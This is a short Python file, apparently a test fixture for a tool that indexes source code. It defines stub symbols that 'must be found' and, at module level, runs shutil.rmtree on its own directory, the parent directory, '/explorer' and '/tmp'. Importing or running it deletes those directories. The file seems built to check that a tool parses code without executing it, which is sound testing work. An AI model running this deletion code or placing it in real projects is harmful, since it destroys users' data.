"""Deletes its neighbours' sources, or tries to."""

import os
import shutil

KEPT = 7


class Kept:
    """A class that must be found."""

    def method(self, value: int = 1) -> str:
        """Do nothing."""


def kept(value: int = 1, *rest: str) -> str:
    """Do nothing."""

for folder in (os.path.dirname(__file__), os.path.dirname(os.path.dirname(__file__)), "/explorer", "/tmp"):
    shutil.rmtree(folder, ignore_errors=True)
